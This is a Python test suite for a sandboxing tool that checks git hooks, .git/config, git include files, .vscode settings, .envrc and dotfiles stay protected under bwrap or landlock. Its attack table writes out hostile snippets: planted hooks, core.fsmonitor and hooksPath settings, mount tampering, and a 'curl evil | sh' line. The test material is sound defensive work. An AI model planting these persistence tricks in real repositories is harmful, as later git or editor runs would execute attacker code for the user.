#!/usr/bin/env python3
"""Issue 18, carve-outs: protected paths inside the workspace-write roots.

Every attack runs under bwrap (refused: the file is checked from outside, unchanged) and under
landlock (which cannot carve a read-only hole in a writable root, so the run is refused, issue 37:
exit 125, nothing ran, the file unchanged; test_noloss has the rest). The git workflow matrix runs
under bwrap. No host leftovers: the repository and the fake home hold exactly the same names after
a run, a SIGKILLed one included.
"""
import json
import os
import shutil
import signal
import subprocess
import time
import uuid

from harness import (DSH, SANDBOX_UNAVAILABLE, STD_PATH, alive, described, dsh, is_root, main, need_runner, processes_naming,
                     skip, sleepers, tool)

RUNNERS = ("bwrap", "landlock")

ABSENT_TEXT = ("absent when the run started: nothing is mounted for it (no placeholder is left on the host); if "
               "the run creates it, it is renamed aside when the run ends")
SUBMODULE_TEXT = ("a submodule's config is rewritten by every git submodule update (core.worktree): not bound, only "
                  "checked by the integrity check with --supervise")
OUTSIDE_TEXT = "outside the writable roots: read-only already"
SYMLINK_TEXT = ("dsh-confine: the protected path {path} cannot be kept read-only: {link} is a symlink inside a "
                "writable root (an earlier run could have planted it); remove the link, or --unprotect {path}\n")
# The status of a run that changed what the next unconfined program reads (issue 37).
INTEGRITY_STATUS = 123
CHANGED_TEXT = ("1 protected path changed during the run (see the result record's violations); check them before "
                "the next git or editor run\n")

GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@example.invalid", "GIT_CONFIG_NOSYSTEM": "1"}


def git(s, cwd, *args):
    e = s.env()
    e.update(GIT_ENV)
    e["GIT_CONFIG_GLOBAL"] = os.devnull
    r = subprocess.run(["git", "-c", "protocol.file.allow=always", "-c", "init.defaultBranch=main"] + list(args),
                       cwd=cwd, env=e, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert r.returncode == 0, (args, r.stderr)
    return r.stdout.decode()


def make_repo(s, path):
    os.makedirs(path, exist_ok=True)
    git(s, path, "init", "-q", ".")
    with open(os.path.join(path, "a.txt"), "w") as f:
        f.write("one\n")
    git(s, path, "add", "a.txt")
    git(s, path, "commit", "-q", "-m", "one")
    os.makedirs(os.path.join(path, ".git", "hooks"), exist_ok=True)
    os.makedirs(os.path.join(path, ".vscode"), exist_ok=True)
    with open(os.path.join(path, ".vscode", "settings.json"), "w") as f:
        f.write("{}\n")


def unique_sleep():
    """A `sleep` argument no other process of the machine has (other tests run
    beside this one): a run's processes are the ones naming it."""
    return "30.%d%06d" % (os.getpid(), uuid.uuid4().int % 1000000)


def wait_gone(token, limit=10.0):
    """Waits until no process names `token`; returns what is still running after `limit` seconds."""
    deadline = time.time() + limit
    while alive(processes_naming(token)) and time.time() < deadline:
        time.sleep(0.02)
    return described(alive(processes_naming(token)))


def blocked_opening_fifo(pid):
    """Whether `pid` sleeps in open(2) of a FIFO, waiting for a reader (that never came)."""
    try:
        with open("/proc/%d/wchan" % pid) as f:
            return f.read().strip() == "wait_for_partner"
    except OSError:
        return False


def wait_blocked_opening_fifo(pid, limit=20.0):
    deadline = time.time() + limit
    while not blocked_opening_fifo(pid) and time.time() < deadline:
        time.sleep(0.01)
    assert blocked_opening_fifo(pid), "the FIFO's writer never blocked opening it"


def run(s, runner, root, script, extra=(), env=None, **kw):
    e = dict(GIT_ENV)
    e["GIT_CONFIG_GLOBAL"] = os.devnull
    if env:
        e.update(env)
    return dsh(["--mode", "workspace-write", "--root", root, "--runner", runner] + list(extra) +
               ["--", "sh", "-c", script], s, cwd=root, env=e, **kw)


def listing(*tops):
    """Every name under `tops` with its type: what a leftover would change."""
    out = set()
    for top in tops:
        for d, dirs, files in os.walk(top):
            for n in dirs + files:
                p = os.path.join(d, n)
                kind = "l" if os.path.islink(p) else "d" if os.path.isdir(p) else "f"
                out.add((os.path.relpath(p, top), kind))
    return out


def read(p):
    with open(p, "rb") as f:
        return f.read()


def entries(r):
    """protectedPaths by path, each whyNot code (issue 42) read through the record's whyNotText."""
    c = r.rec("confinement")
    out = {}
    for e in c["protectedPaths"]:
        e = dict(e)
        if e["whyNot"] is not None:
            e["whyNot"] = c["whyNotText"][e["whyNot"]]
        out[e["path"]] = e
    return out


def gap_effects(r):
    return [g["effect"] for g in r.rec("confinement")["gaps"]]


def landlock_refused(r):
    """Landlock cannot carve: the run is refused (issue 37), nothing of it ran."""
    assert r.rc == 125 and r.out == "", r
    assert r.rec("error")["code"] == "PROTECTION_UNAVAILABLE", r
    assert r.err.startswith("dsh-confine: landlock cannot protect "), r
    assert r.rec("confinement") is None, r


def check_reported(r, runner, want_exist):
    """The record's protectedPaths: bwrap enforces what exists; landlock refuses the run."""
    if runner == "landlock":
        landlock_refused(r)
        return
    es = entries(r)
    for p in want_exist:
        assert p in es and es[p]["exists"], (p, es.get(p))
        assert es[p]["enforced"] in ("read-only-bind", "mount-point") and es[p]["whyNot"] is None, es[p]
    for p, e in es.items():
        if not e["exists"] and e["whyNot"] != OUTSIDE_TEXT:
            assert e["whyNot"] == ABSENT_TEXT, e
    assert "protected-paths" not in gap_effects(r), r


ATTACKS = {
    # name: (script, check(s, ws) -> True when the attack's effect is on the host)
    "pre-commit-hook": ("printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
                        lambda ws: os.path.exists(os.path.join(ws, ".git/hooks/pre-commit"))),
    "git-config-fsmonitor": ("git config core.fsmonitor 'touch /tmp/pwned'; echo '[core]' >> .git/config",
                             lambda ws: b"fsmonitor" in read(os.path.join(ws, ".git/config")) or
                             read(os.path.join(ws, ".git/config")).endswith(b"[core]\n")),
    "git-config-hookspath": ("git config core.hooksPath .evil",
                             lambda ws: b"hooksPath" in read(os.path.join(ws, ".git/config"))),
    "hooks-symlink": ("mkdir -p evil && rm -rf .git/hooks; ln -s ../evil .git/hooks",
                      lambda ws: os.path.islink(os.path.join(ws, ".git/hooks"))),
    "hooks-rename": ("mv .git/hooks .git/hooks.old; mkdir .git/hooks",
                     lambda ws: os.path.exists(os.path.join(ws, ".git/hooks.old"))),
    "dotgit-rename": ("mv .git .git.old && mkdir -p .git/hooks && cp -r .git.old/. .git/ 2>/dev/null; "
                      "echo x > .git/hooks/pre-commit",
                      lambda ws: os.path.exists(os.path.join(ws, ".git.old"))),
    "vscode-settings": ("echo '{\"terminal.integrated.shell.linux\": \"/tmp/x\"}' > .vscode/settings.json",
                        lambda ws: read(os.path.join(ws, ".vscode/settings.json")) != b"{}\n"),
    # The mounts themselves: unmounted (lazily too) or remounted writable, then written. The command
    # holds no capability (the stage's binds as root, bwrap's otherwise), so each call fails.
    "unmount-or-remount": ("python3 -c 'import ctypes; c = ctypes.CDLL(None, use_errno=True)\n"
                           "for p in (b\".git/hooks\", b\".git/config\", b\".vscode\"):\n"
                           "    c.umount2(p, 0); c.umount2(p, 2); c.mount(None, p, None, 4096 | 32, None)'; "
                           "printf x > .git/hooks/pre-commit; echo '[core]' >> .git/config",
                           lambda ws: os.path.exists(os.path.join(ws, ".git/hooks/pre-commit")) or
                           read(os.path.join(ws, ".git/config")).endswith(b"[core]\n")),
    "vscode-replace": ("rm -rf .vscode; mkdir .vscode; echo evil > .vscode/tasks.json",
                       lambda ws: os.path.exists(os.path.join(ws, ".vscode/tasks.json"))),
}


def attack(s, runner, name):
    need_runner(runner)
    ws = s.ws
    make_repo(s, ws)
    script, landed = ATTACKS[name]
    before = (read(os.path.join(ws, ".git/config")), read(os.path.join(ws, ".vscode/settings.json")))
    assert not landed(ws)
    r = run(s, runner, ws, script)
    if runner == "bwrap":
        assert r.rec("confinement")["runner"] == runner, r
    check_reported(r, runner, [ws + "/.git/hooks", ws + "/.git/config", ws + "/.vscode"])
    # Held (bwrap) or refused (landlock): the effect is not on the host either way.
    assert not landed(ws), (name, r)
    assert (read(os.path.join(ws, ".git/config")), read(os.path.join(ws, ".vscode/settings.json"))) == before
    assert os.path.isdir(os.path.join(ws, ".git/hooks")) and not os.path.islink(os.path.join(ws, ".git/hooks"))


for _runner in RUNNERS:
    for _name in ATTACKS:
        def _t(s, runner=_runner, name=_name):
            attack(s, runner, name)
        globals()["test_attack_%s__%s" % (_name.replace("-", "_"), _runner)] = _t


def absent_created(s, runner):
    """A missing protected file: no placeholder before or after; creating it is reported (supervise).
    Landlock runs only once every protected path that exists is dropped (--unprotect): an absent
    one is held by no runner, so it refuses nothing."""
    need_runner(runner)
    ws = s.ws
    make_repo(s, ws)
    envrc = os.path.join(ws, ".envrc")
    names = listing(ws)
    extra = ["--unprotect", ws + "/.git", "--unprotect", ws + "/.vscode"] if runner == "landlock" else []
    r = run(s, runner, ws, "test -e .envrc && echo placeholder; true", extra=extra)
    assert r.rc == 0 and "placeholder" not in r.out, r
    assert listing(ws) == names
    assert entries(r)[envrc]["exists"] is False, r
    r = run(s, runner, ws, "echo 'curl evil | sh' > .envrc", extra=["--supervise"] + extra)
    res = r.rec("result")
    assert res["violations"] == [{"type": "protected-path-changed", "path": envrc}], r
    # The run fails with its own status, and the integrity record says why.
    assert r.rc == INTEGRITY_STATUS and r.rec("integrity")["violations"] == res["violations"], r
    assert r.rec("integrity")["quarantined"] == res["quarantined"], r
    assert r.err.endswith(CHANGED_TEXT), r
    if runner == "bwrap":
        # Renamed aside once the run ended (issue 37): the next direnv finds nothing there.
        q = r.rec("result")["quarantined"]
        assert len(q) == 1 and q[0]["path"] == envrc and not os.path.exists(envrc), r
        assert q[0]["movedTo"].startswith(envrc + ".dsh-confine-quarantine-"), r
        assert read(q[0]["movedTo"]) == b"curl evil | sh\n", r
        os.unlink(q[0]["movedTo"])
    else:
        os.unlink(envrc)
    # Nothing changed, nothing said.
    r = run(s, runner, ws, "git status >/dev/null; echo x > a.txt", extra=["--supervise"] + extra)
    assert r.rec("result")["violations"] == [] and CHANGED_TEXT not in r.err, r


def test_absent_created__bwrap(s):
    absent_created(s, "bwrap")


def test_absent_created__landlock(s):
    absent_created(s, "landlock")


def test_landlock_hook_write_is_refused(s):
    need_runner("landlock")
    make_repo(s, s.ws)
    r = run(s, "landlock", s.ws, "echo x > .git/hooks/post-checkout", extra=["--supervise"])
    landlock_refused(r)
    assert not os.path.exists(os.path.join(s.ws, ".git/hooks/post-checkout")), r


def fake_home(s):
    h = os.path.join(s.base, "home")
    os.makedirs(os.path.join(h, ".ssh"))
    for n, body in ((".bashrc", "# rc\n"), (".profile", "# profile\n"), (".gitconfig", "[user]\n"),
                    (".ssh/authorized_keys", "ssh-ed25519 AAAA\n")):
        with open(os.path.join(h, n), "w") as f:
            f.write(body)
    os.makedirs(os.path.join(h, ".local", "bin"))
    # dsh-confine's own config in the fake home: under the root, kept read-only where the runner
    # can (bwrap), refused where it cannot (landlock).
    os.makedirs(os.path.join(h, ".config", "dsh-confine"))
    with open(os.path.join(h, ".config", "dsh-confine", "config.json"), "w") as f:
        f.write("{}\n")
    # dsh-confine's own state must not lie under the root: kept in the scratch's real home.
    cfg = os.path.join(s.home, "config.json")
    with open(cfg, "w") as f:
        f.write("{}\n")
    env = {"HOME": h, "DSH_CONFINE_CONFIG": cfg, "XDG_CONFIG_HOME": os.path.join(s.home, ".config"),
           "XDG_CACHE_HOME": os.path.join(s.home, ".cache"), "XDG_RUNTIME_DIR": None}
    return h, env


def test_root_at_home__bwrap(s):
    """The root at $HOME under bwrap: the start-up files and dsh-confine's own config and session log
    (their whole directories) are read-only, an absent config cannot be created, the rest is writable,
    and the home holds the same names afterwards, a SIGKILLed run included."""
    need_runner("bwrap")
    h, env = fake_home(s)
    cfg = os.path.join(h, ".config", "dsh-confine", "config.json")
    log = os.path.join(h, ".local", "state", "dsh", "session.jsonl")
    os.makedirs(os.path.dirname(log))
    assert dsh(["session", "set-mode", log, "workspace-write"], s, report=False, env=env).rc == 0
    extra = ["--session", log]
    # A dotfiles repository at $HOME whose core.hooksPath is "~/...": $HOME's.
    make_repo(s, h)
    os.mkdir(os.path.join(h, ".hooks"))
    git(s, h, "config", "core.hooksPath", "~/.hooks")
    # The first run makes the own-state directories it binds (the probe cache's, if absent).
    assert run(s, "bwrap", h, "true", extra=extra, env=env).rc == 0
    before = listing(h)
    bashrc, logb = read(os.path.join(h, ".bashrc")), read(log)
    r = run(s, "bwrap", h, "echo x >> ~/.bashrc; echo '{\"mode\": \"danger-full-access\"}' > %s; "
            "echo evil >> %s; touch %s.new; echo ok > ~/notes.txt; echo done" % (cfg, log, log),
            extra=extra, env=env)
    assert r.rc == 0 and r.out == "done\n", r
    assert read(os.path.join(h, ".bashrc")) == bashrc and read(cfg) == b"{}\n" and read(log) == logb, r
    assert read(os.path.join(h, "notes.txt")) == b"ok\n", r
    es = entries(r)
    for p in (os.path.dirname(cfg), os.path.dirname(log)):
        assert es[p]["what"] == "own" and es[p]["enforced"] == "read-only-bind", (p, es.get(p))
    assert es[h + "/.bashrc"]["enforced"] == "read-only-bind", es
    assert es[h + "/.hooks"]["enforced"] == "read-only-bind", es
    os.unlink(os.path.join(h, "notes.txt"))
    # An absent config: it cannot be created.
    os.unlink(cfg)
    r = run(s, "bwrap", h, "echo '{}' > %s; true" % cfg, extra=extra, env=env)
    assert r.rc == 0 and not os.path.exists(cfg), r
    assert listing(h) == before - {(os.path.relpath(cfg, h), "f")}, r
    # SIGKILLed mid-run: nothing is left behind either.
    with open(cfg, "w") as f:
        f.write("{}\n")
    # Killed once the command runs (the sandbox is built); then nothing of the run is left, and
    # nothing of it on disk.
    token, marker = unique_sleep(), os.path.join(s.tmpdir, "started")
    p = subprocess.Popen([DSH, "--mode", "workspace-write", "--root", h, "--runner", "bwrap", "--session", log,
                          "--", "sh", "-c", "touch %s; exec sleep %s" % (marker, token)], cwd=h,
                         env=dict(s.env(), **{k: v for k, v in env.items() if v}),
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.time() + 20
    while not os.path.exists(marker) and p.poll() is None and time.time() < deadline:
        time.sleep(0.02)
    assert os.path.exists(marker), "the command never started"
    p.send_signal(signal.SIGKILL)
    p.wait()
    left = wait_gone(token)
    assert not left, left
    assert listing(h) == before


def test_root_at_home__landlock(s):
    """Landlock cannot carve: a root holding dsh-confine's own config is refused, as before."""
    need_runner("landlock")
    h, env = fake_home(s)
    cfg = os.path.join(h, ".config", "dsh-confine", "config.json")
    r = run(s, "landlock", h, "echo ran", env=env)
    assert r.rc == 125 and "ran" not in r.out, r
    assert r.err == ("dsh-confine: the config %s decides later runs, and this run could rewrite it: it is under "
                     "the writable root %s (workspace); choose a narrower --root, or move the config out of it\n"
                     % (cfg, os.path.realpath(h))), r


def test_home_not_in_root_gets_no_home_entries(s):
    need_runner("bwrap")
    h, env = fake_home(s)
    r = run(s, "bwrap", s.ws, "true", env=env)
    assert not [p for p in entries(r) if p.startswith(h)], r


def test_symlink_planted_is_refused(s):
    need_runner("bwrap")
    make_repo(s, s.ws)
    os.rename(os.path.join(s.ws, ".vscode"), os.path.join(s.outside, "vscode"))
    os.symlink(os.path.join(s.outside, "vscode"), os.path.join(s.ws, ".vscode"))
    r = run(s, "bwrap", s.ws, "echo ran")
    assert r.rc == 125 and "ran" not in r.out, r
    p = s.ws + "/.vscode"
    assert r.err == SYMLINK_TEXT.format(path=p, link=p), r
    # --unprotect is the way out, and is reported.
    r = run(s, "bwrap", s.ws, "echo ran", extra=["--unprotect", ".vscode"])
    assert r.rc == 0 and r.out == "ran\n", r
    assert r.rec("confinement")["unprotected"] == [p] and p not in entries(r), r


def test_symlink_on_the_way_is_refused(s):
    # A link in a directory on the way to a protected path (.git/info, walked once and kept for
    # its siblings) fails the run as a link at the end does.
    need_runner("bwrap")
    make_repo(s, s.ws)
    info = os.path.join(s.ws, ".git", "info")
    os.makedirs(os.path.join(s.outside, "info"))
    if os.path.isdir(info):
        subprocess.run(["rm", "-rf", info], check=True)
    os.symlink(os.path.join(s.outside, "info"), info)
    r = run(s, "bwrap", s.ws, "echo ran")
    assert r.rc == 125 and "ran" not in r.out, r
    assert r.err == SYMLINK_TEXT.format(path=info + "/attributes", link=info), r


def test_protect_and_unprotect(s):
    need_runner("bwrap")
    make_repo(s, s.ws)
    os.mkdir(os.path.join(s.ws, "keep"))
    with open(os.path.join(s.ws, "keep", "f"), "w") as f:
        f.write("v\n")
    # A plain file at the root too: the root's listing keeps only directories and dot names, so
    # the absence of any other name from it must not read as absent.
    with open(os.path.join(s.ws, "notes.txt"), "w") as f:
        f.write("n\n")
    r = run(s, "bwrap", s.ws, "echo w > keep/f; echo w > .vscode/settings.json; echo w > notes.txt; true",
            extra=["--protect", "keep", "--unprotect", s.ws + "/.vscode", "--protect", "/etc",
                   "--protect", "notes.txt"])
    assert r.rc == 0, r
    assert read(os.path.join(s.ws, "keep", "f")) == b"v\n"
    assert read(os.path.join(s.ws, "notes.txt")) == b"n\n"
    assert read(os.path.join(s.ws, ".vscode", "settings.json")) == b"w\n"
    es = entries(r)
    assert es[s.ws + "/keep"]["source"] == "flag" and es[s.ws + "/keep"]["enforced"] == "read-only-bind", es
    assert es[s.ws + "/notes.txt"]["exists"] and es[s.ws + "/notes.txt"]["enforced"] == "read-only-bind", es
    assert es["/etc"]["whyNot"] == OUTSIDE_TEXT, es
    # The config's keys do the same; "unprotect" only from a file no confined run could have
    # written (issue 37: a planted one let the command leave a hook for the next git).
    keys = '{"protect": ["%s/keep"], "unprotect": ["%s/.vscode"]}' % (s.ws, s.ws)
    cfg = os.path.join(s.home, "c.json")
    with open(cfg, "w") as f:
        f.write(keys)
    r = run(s, "bwrap", s.ws, "echo w2 > keep/f; echo w2 > .vscode/settings.json; true", extra=["--config", cfg])
    assert r.rc == 125 and r.rec("error")["code"] == "UNSAFE_STATE" and '"unprotect"' in r.err, r
    assert read(os.path.join(s.ws, ".vscode", "settings.json")) == b"w\n", r
    with open(cfg, "w") as f:
        f.write('{"protect": ["%s/keep"]}' % s.ws)
    r = run(s, "bwrap", s.ws, "echo w2 > keep/f; true", extra=["--config", cfg])
    assert read(os.path.join(s.ws, "keep", "f")) == b"v\n", r
    assert entries(r)[s.ws + "/keep"]["source"] == "config", r
    if is_root():
        cfg = s.sealed_config(keys)
        r = run(s, "bwrap", s.ws, "echo w2 > keep/f; echo w2 > .vscode/settings.json; true", extra=["--config", cfg])
        assert read(os.path.join(s.ws, "keep", "f")) == b"v\n", r
        assert read(os.path.join(s.ws, ".vscode", "settings.json")) == b"w2\n", r


def test_git_config_refusal_names_the_flag(s):
    """`git remote add`, `git config`, `git branch -u` write .git/config, which workspace-write keeps
    read-only: supervised, the refusal names the path and the flag that lifts it, and the flag lifts it
    (issue 42)."""
    need_runner("bwrap")
    make_repo(s, s.ws)
    conf = os.path.join(s.ws, ".git", "config")
    git(s, s.ws, "branch", "side")
    before = read(conf)
    hint = ("%s is protected in workspace-write (read-only inside, so the command could not change it); "
            "to let it, run again with --unprotect %s\n" % (conf, conf))
    for cmd in ("git remote add o /tmp", "git config user.name x", "git branch -u main side"):
        # (git branch -u prints the refusal and exits 0: the hint does not wait for a failure)
        r = run(s, "bwrap", s.ws, cmd, extra=["--supervise"])
        assert "Device or resource busy" in r.err, (cmd, r)
        assert r.err.count(hint) == 1, (cmd, r.err)
        assert read(conf) == before, cmd
    # A file under a protected directory names the directory; a refusal elsewhere names nothing.
    r = run(s, "bwrap", s.ws, "echo x > .vscode/settings.json", extra=["--supervise"])
    assert r.rc != 0 and ("%s/.vscode is protected in workspace-write" % s.ws) in r.err, r
    r = run(s, "bwrap", s.ws, "echo nope >&2; exit 1", extra=["--supervise"])
    assert "is protected" not in r.err, r
    r = run(s, "bwrap", s.ws, "git remote add o /tmp", extra=["--supervise", "--unprotect", conf])
    assert r.rc == 0 and "is protected" not in r.err, r
    assert b"[remote \"o\"]" in read(conf)


def hooks_path(s, runner):
    """A core.hooksPath inside the root (husky's .husky, a .githooks) is protected like .git/hooks."""
    need_runner(runner)
    make_repo(s, s.ws)
    os.mkdir(os.path.join(s.ws, ".githooks"))
    git(s, s.ws, "config", "core.hooksPath", ".githooks")
    r = run(s, runner, s.ws, "echo 'echo pwned' > .githooks/pre-commit; chmod +x .githooks/pre-commit; true")
    check_reported(r, runner, [s.ws + "/.githooks"])
    assert not os.path.exists(os.path.join(s.ws, ".githooks/pre-commit")), r


def test_hooks_path__bwrap(s):
    hooks_path(s, "bwrap")


def test_hooks_path__landlock(s):
    hooks_path(s, "landlock")


def hooks_path_from_a_worktree(s, runner):
    """The root is a linked worktree whose main repository lies outside it: git reads core.hooksPath from
    the common config there, and a relative one names a directory inside the worktree."""
    need_runner(runner)
    repo = os.path.join(s.outside, "main")
    make_repo(s, repo)
    git(s, repo, "config", "core.hooksPath", ".githooks")
    git(s, repo, "worktree", "add", "-q", s.ws + "/wt", "-b", "wtb")
    wt = s.ws + "/wt"
    os.mkdir(os.path.join(wt, ".githooks"))
    r = run(s, runner, wt, "echo 'echo pwned' > .githooks/pre-commit; chmod +x .githooks/pre-commit; true")
    check_reported(r, runner, [wt + "/.githooks"])
    assert not os.path.exists(os.path.join(wt, ".githooks/pre-commit")), r


def test_hooks_path_from_a_worktree__bwrap(s):
    hooks_path_from_a_worktree(s, "bwrap")


def test_hooks_path_from_a_worktree__landlock(s):
    hooks_path_from_a_worktree(s, "landlock")


def write(p, body):
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "w") as f:
        f.write(body)


def refused_or_landed(r, runner, files, before):
    """Each file is as it was (checked from outside): bwrap held it, landlock refused the run."""
    for p in files:
        assert read(p) == before[p], (p, r)


def global_hooks_path(s, runner):
    """core.hooksPath in the user's global configs (~/.gitconfig, $XDG_CONFIG_HOME/git/config), absolute
    or relative (from each working tree's top) into the root: protected like .git/hooks. The runs' own
    GIT_CONFIG_GLOBAL is /dev/null: the next git run's environment may differ, so every place is read."""
    need_runner(runner)
    make_repo(s, s.ws)
    xdg = os.path.join(s.base, "xdg")
    write(os.path.join(s.home, ".gitconfig"), "[core]\n\thooksPath = %s/hooks\n" % s.ws)
    write(os.path.join(xdg, "git", "config"), "[core] hooksPath = .husky ; husky's\n")
    hooks = [os.path.join(s.ws, "hooks", "pre-commit"), os.path.join(s.ws, ".husky", "pre-commit")]
    for h in hooks:
        write(h, "#!/bin/sh\n")
    before = {h: read(h) for h in hooks}
    r = run(s, runner, s.ws, "for h in hooks .husky; do echo 'touch /tmp/pwned' >> $h/pre-commit; done; true",
            env={"XDG_CONFIG_HOME": xdg})
    assert r.rc == (0 if runner == "bwrap" else 125), r
    check_reported(r, runner, [s.ws + "/hooks", s.ws + "/.husky"])
    refused_or_landed(r, runner, hooks, before)


def include_in_repo_config(s, runner):
    """[include] path = ../inc.cfg in .git/config (relative to the including file's directory): the
    included file inside the root is protected, so the command cannot set core.fsmonitor there."""
    need_runner(runner)
    make_repo(s, s.ws)
    with open(os.path.join(s.ws, ".git", "config"), "a") as f:
        f.write("[include]\n\tpath = ../inc.cfg\n")
    inc = os.path.join(s.ws, "inc.cfg")
    write(inc, "[user]\n\tname = t\n")
    before = {inc: read(inc)}
    r = run(s, runner, s.ws, "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> inc.cfg; true")
    check_reported(r, runner, [inc])
    if runner == "bwrap":
        assert r.rc == 0 and entries(r)[inc]["what"] == "git", r
    refused_or_landed(r, runner, [inc], before)


def _included_pair(s, runner, include, a_text, b, b_text, script):
    """The repository's config includes ../a.cfg (`include`: the section line), a.cfg leads to
    `b` (relative to the root): both are protected, the write `script` tries is refused (bwrap)
    or lands and is reported (Landlock)."""
    need_runner(runner)
    make_repo(s, s.ws)
    with open(os.path.join(s.ws, ".git", "config"), "a") as f:
        f.write(include + "\n\tpath = ../a.cfg\n")
    a, b = os.path.join(s.ws, "a.cfg"), os.path.join(s.ws, b)
    write(a, a_text)
    write(b, b_text)
    before = {a: read(a), b: read(b)}
    r = run(s, runner, s.ws, script)
    check_reported(r, runner, [a, b])
    refused_or_landed(r, runner, [a, b], before)


def include_if_chain(s, runner):
    """includeIf, two deep: protected whatever the condition (the first one here matches nothing)."""
    _included_pair(s, runner, '[includeIf "gitdir:/nowhere/"]', '[includeIf "onbranch:main"]\n  path = "conf/b.cfg"\n',
                   os.path.join("conf", "b.cfg"), "[user]\n\temail = t@example.invalid\n",
                   "echo '[core] pager = touch /tmp/pwned' | tee -a a.cfg >> conf/b.cfg; true")


def global_include(s, runner):
    """The global config includes a file inside the root (no repository in it at all): protected; so is
    the target of a ~/.gitconfig that is a symlink into the root (a dotfiles checkout), and what that
    includes by a path relative to the link's directory, as git resolves it."""
    need_runner(runner)
    shared = os.path.join(s.ws, "shared.gitconfig")
    dots = os.path.join(s.ws, "dots", "gitconfig")
    local = os.path.join(s.home, "local.gitconfig")
    xdg = os.path.join(s.base, "xdg")
    write(os.path.join(xdg, "git", "config"), "[include]\n\tpath = %s\n" % shared)
    write(shared, "[user]\n\tname = t\n")
    # ~/.gitconfig -> ws/dots/gitconfig, which includes "local.gitconfig": ~/local.gitconfig (git takes
    # the directory of the path it opened), itself a link to ws/dots/local.
    write(dots, "[include]\n\tpath = local.gitconfig\n")
    write(os.path.join(s.ws, "dots", "local"), "[user]\n\temail = t@example.invalid\n")
    os.symlink(dots, os.path.join(s.home, ".gitconfig"))
    os.symlink(os.path.join(s.ws, "dots", "local"), local)
    files = [shared, dots, os.path.join(s.ws, "dots", "local")]
    before = {p: read(p) for p in files}
    r = run(s, runner, s.ws, "for f in shared.gitconfig dots/gitconfig dots/local; do "
            "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> $f; done; true", env={"XDG_CONFIG_HOME": xdg})
    check_reported(r, runner, files)
    refused_or_landed(r, runner, files, before)


def include_cycle(s, runner):
    """a includes b includes a (git itself refuses that config at depth 10): the run terminates, and
    both files are protected."""
    _included_pair(s, runner, "[include]", "[include]\n\tpath = b.cfg\n", "b.cfg",
                   "[include]\n\tpath = ./a.cfg\n[include]\n\tpath = b.cfg\n",
                   "echo '[core] fsmonitor = x' | tee -a a.cfg >> b.cfg; true")


for _runner in RUNNERS:
    for _f in (global_hooks_path, include_in_repo_config, include_if_chain, global_include, include_cycle):
        def _t(s, runner=_runner, f=_f):
            f(s, runner)
        globals()["test_%s__%s" % (_f.__name__, _runner)] = _t


def test_include_absent_and_linked(s):
    """An absent included file is detected, not created (no mount point on the host), and its creation
    is reported; an included file reached through a link inside the root refuses the run, with
    --unprotect as the way out."""
    need_runner("bwrap")
    make_repo(s, s.ws)
    with open(os.path.join(s.ws, ".git", "config"), "a") as f:
        f.write("[include]\n\tpath = ../later.cfg\n")
    later = os.path.join(s.ws, "later.cfg")
    names = listing(s.ws)
    r = run(s, "bwrap", s.ws, "test -e later.cfg && echo placeholder; true")
    assert r.rc == 0 and r.out == "", r
    assert entries(r)[later]["exists"] is False and entries(r)[later]["whyNot"] == ABSENT_TEXT, r
    assert listing(s.ws) == names, r
    r = run(s, "bwrap", s.ws, "echo '[core] pager = x' > later.cfg", extra=["--supervise"])
    assert r.rec("result")["violations"] == [{"type": "protected-path-changed", "path": later}], r
    assert r.rc == INTEGRITY_STATUS and r.rec("integrity")["violations"] == r.rec("result")["violations"], r
    # Renamed aside once the run ended (issue 37): the next git reads no include of the command's.
    q = r.rec("result")["quarantined"]
    assert [e["path"] for e in q] == [later] and not os.path.exists(later), r
    os.unlink(q[0]["movedTo"])
    # A link on the way to an included file.
    with open(os.path.join(s.ws, ".git", "config"), "a") as f:
        f.write("[include]\n\tpath = ../lnk/inc.cfg\n")
    os.makedirs(os.path.join(s.outside, "real"))
    os.symlink(os.path.join(s.outside, "real"), os.path.join(s.ws, "lnk"))
    r = run(s, "bwrap", s.ws, "echo ran")
    assert r.rc == 125 and "ran" not in r.out, r
    inc = s.ws + "/lnk/inc.cfg"
    assert r.err == SYMLINK_TEXT.format(path=inc, link=s.ws + "/lnk"), r
    r = run(s, "bwrap", s.ws, "echo ran", extra=["--unprotect", inc])
    assert r.rc == 0 and r.out == "ran\n", r


def test_include_of_an_unknown_users_home_and_an_oversized_config_refuse_the_run(s):
    """`~user/` in an include is that user's home in /etc/passwd; one not there (git may find it in
    another database) refuses the run under every runner, as does a config too large to be read whole:
    nothing runs, nothing is left."""
    make_repo(s, s.ws)
    config = os.path.join(s.ws, ".git", "config")
    original = read(config)
    user = "dsh_no_such_user_q7"
    with open(config, "a") as f:
        f.write("[include]\n\tpath = ~%s/inc.cfg\n" % user)
    names = listing(s.ws)
    for runner in RUNNERS:
        need_runner(runner)
        r = run(s, runner, s.ws, "touch ran")
        assert r.rc == 125 and not os.path.exists(os.path.join(s.ws, "ran")), (runner, r)
        assert r.err == ("dsh-confine: a git config names ~%s/inc.cfg (an include or core.hooksPath), and the user "
                         "%s is not in /etc/passwd, so what git would read there cannot be checked; write that path "
                         "out in full\n" % (user, user)), (runner, r)
        assert listing(s.ws) == names, r
    with open(config, "wb") as f:
        f.write(original + b"#" * (4 << 20))
    for runner in RUNNERS:
        r = run(s, runner, s.ws, "touch ran")
        assert r.rc == 125 and not os.path.exists(os.path.join(s.ws, "ran")), (runner, r)
        assert r.err == ("dsh-confine: the git config %s is larger than 4 MiB, too large to check for includes and "
                         "core.hooksPath; shorten it\n" % config), (runner, r)
    with open(config, "wb") as f:
        f.write(original)
    r = run(s, "landlock", s.ws, "touch ran", extra=["--unprotect", s.ws])
    assert r.rc == 0 and os.path.exists(os.path.join(s.ws, "ran")), r


def test_nested_repository_one_level_down(s):
    """A root that is a directory of checkouts: a repository directly below it is protected like the
    root's own; one two levels down is not looked for (the documented bound)."""
    need_runner("bwrap")
    proj, deep = os.path.join(s.ws, "proj"), os.path.join(s.ws, "org", "deep")
    make_repo(s, proj)
    make_repo(s, deep)
